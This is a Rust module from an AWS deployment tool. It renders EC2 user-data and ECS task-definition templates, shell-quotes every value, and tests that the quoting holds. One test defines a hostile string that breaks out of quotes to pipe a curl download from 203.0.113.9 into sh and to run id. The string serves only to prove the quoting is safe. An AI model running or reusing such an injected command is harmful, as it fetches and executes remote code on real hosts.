//! Rendering `templates/` with tera: EC2 user data and ECS container definitions. The
//! templates are compiled into the binary so deployer runs from any directory.

use serde::Serialize;
use tera::{Context, Tera};

use crate::config::SecretRef;

const USER_DATA: &str = include_str!("../../templates/user-data.sh.tera");
const TASK_DEFINITION: &str = include_str!("../../templates/task-definition.json.tera");

#[derive(Debug, thiserror::Error)]
pub enum TemplateError {
    #[error("cannot render templates/{name}: {detail}")]
    Render { name: &'static str, detail: String },
    #[error("templates/task-definition.json.tera did not render to valid JSON: {0}")]
    Json(#[from] serde_json::Error),
    #[error(
        "templates/task-definition.json.tera rendered container definitions deployer cannot register: {0}\n  help: use only the fields listed in src/model/containers.rs"
    )]
    ContainerShape(serde_json::Error),
}

/// Where the API token lives, for the templates.
#[derive(Debug, Serialize)]
struct Token<'a> {
    kind: &'a str,
    name: &'a str,
}

pub(super) struct AppTemplateInput<'a> {
    pub environment: &'a str,
    /// The VPC's CIDR: the load balancer's addresses, whose X-Forwarded-For the API trusts.
    pub vpc_cidr: &'a str,
    pub region: &'a str,
    pub image: &'a str,
    pub port: u16,
    pub metrics_port: u16,
    pub token: &'a SecretRef,
    /// The token's ARN, for ECS `secrets.valueFrom`.
    pub token_arn: &'a str,
    pub container_name: &'a str,
    pub log_group: &'a str,
}

impl AppTemplateInput<'_> {
    fn context(&self) -> Context {
        let (kind, name) = match self.token {
            SecretRef::Ssm(path) => ("ssm", path.as_str()),
            SecretRef::SecretsManager(name) => ("secretsmanager", name.as_str()),
            SecretRef::Env(name) => ("env", name.as_str()),
        };
        let mut context = Context::new();
        context.insert("environment", self.environment);
        context.insert("region", self.region);
        context.insert("image", self.image);
        context.insert("port", &self.port);
        context.insert("metrics_port", &self.metrics_port);
        context.insert("port_text", &self.port.to_string());
        context.insert("metrics_port_text", &self.metrics_port.to_string());
        context.insert("port_mapping", &format!("{0}:{0}", self.port));
        context.insert("metrics_port_mapping", &format!("{0}:{0}", self.metrics_port));
        context.insert("trusted_proxy_cidrs", self.vpc_cidr);
        context.insert("token", &Token { kind, name });
        context.insert("token_arn", self.token_arn);
        context.insert("container_name", self.container_name);
        context.insert("log_group", self.log_group);
        // Docker's configuration as JSON built here, not in the template: a value in it stays a
        // JSON string whatever it holds.
        let docker_config =
            ecr_registry(self.image).map(|host| serde_json::json!({"credHelpers": {host: "ecr-login"}}).to_string());
        context.insert("docker_config", &docker_config);
        context
    }
}

/// The ECR registry host an image lives in (`<account>.dkr.ecr.<region>.amazonaws.com`), for
/// Docker's ECR credential helper; None for any other registry.
fn ecr_registry(image: &str) -> Option<&str> {
    let (host, _) = image.split_once('/')?;
    let mut labels = host.split('.');
    let looks_like_ecr = labels.nth(1) == Some("dkr") && labels.next() == Some("ecr");
    looks_like_ecr.then_some(host)
}

pub(super) fn user_data(input: &AppTemplateInput<'_>) -> Result<String, TemplateError> {
    render("user-data.sh.tera", USER_DATA, &input.context())
}

/// Tera's `shell` filter: the value as one single-quoted shell word. Inside single quotes
/// nothing is special but the closing quote, written as `'\''` (close, escaped quote, reopen),
/// so no value can end its word or start a command, whatever it holds.
fn shell_filter(value: &tera::Value, _: &std::collections::HashMap<String, tera::Value>) -> tera::Result<tera::Value> {
    let text = match value {
        tera::Value::String(text) => text.clone(),
        tera::Value::Number(number) => number.to_string(),
        other => {
            return Err(tera::Error::msg(format!(
                "the shell filter quotes strings and numbers, not {other}"
            )));
        }
    };
    Ok(tera::Value::String(shell_quote(&text)))
}

pub(crate) fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The container definitions as canonical JSON (sorted keys), so comparisons with what ECS
/// returns are textual.
pub(super) fn container_definitions(input: &AppTemplateInput<'_>) -> Result<String, TemplateError> {
    let text = render("task-definition.json.tera", TASK_DEFINITION, &input.context())?;
    let value: serde_json::Value = serde_json::from_str(&text)?;
    let canonical = value.to_string();
    super::containers::parse_container_definitions(&canonical).map_err(TemplateError::ContainerShape)?;
    Ok(canonical)
}

fn render(name: &'static str, template: &str, context: &Context) -> Result<String, TemplateError> {
    let failed = |error: tera::Error| TemplateError::Render {
        name,
        detail: crate::error_chain::error_chain(&error),
    };
    // Autoescaping is for HTML; shell and JSON values are quoted by `shell` and `json_encode`.
    let mut tera = Tera::default();
    tera.autoescape_on(Vec::new());
    tera.register_filter("shell", shell_filter);
    tera.add_raw_template(name, template).map_err(failed)?;
    tera.render(name, context).map_err(failed)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every value in the user data goes through `shell`, every value in the container
    /// definitions through `json_encode`: a template edit that forgets it fails here.
    #[test]
    fn every_value_in_the_templates_is_quoted_for_its_language() {
        for (name, template, filter) in [
            ("user data", USER_DATA, "| shell }}"),
            ("task definition", TASK_DEFINITION, "| json_encode() }}"),
        ] {
            for expression in template.split("{{").skip(1) {
                let expression = expression.split_inclusive("}}").next().unwrap_or_default();
                assert!(
                    expression.trim_end().ends_with(filter),
                    "{name}: `{{{{{expression}` is not quoted with `{filter}`"
                );
            }
        }
    }

    #[test]
    fn a_quoted_value_is_one_word_whatever_it_holds() {
        let hostile = "api:1'; curl -s http://203.0.113.9/x | sh; echo '$(id)`id`\\";
        let quoted = shell_quote(hostile);
        let output = std::process::Command::new("bash")
            .args(["-c", &format!("printf '%s\\0' {quoted}")])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8(output.stdout).unwrap(), format!("{hostile}\0"));
    }

    #[test]
    fn only_ecr_hosts_get_the_credential_helper() {
        assert_eq!(
            ecr_registry("123456789012.dkr.ecr.eu-west-1.amazonaws.com/deployer/staging/api@sha256:ab"),
            Some("123456789012.dkr.ecr.eu-west-1.amazonaws.com")
        );
        assert_eq!(ecr_registry("ghcr.io/deployer/api:1.0.0"), None);
        assert_eq!(ecr_registry("api:1.0.0"), None);
    }
}
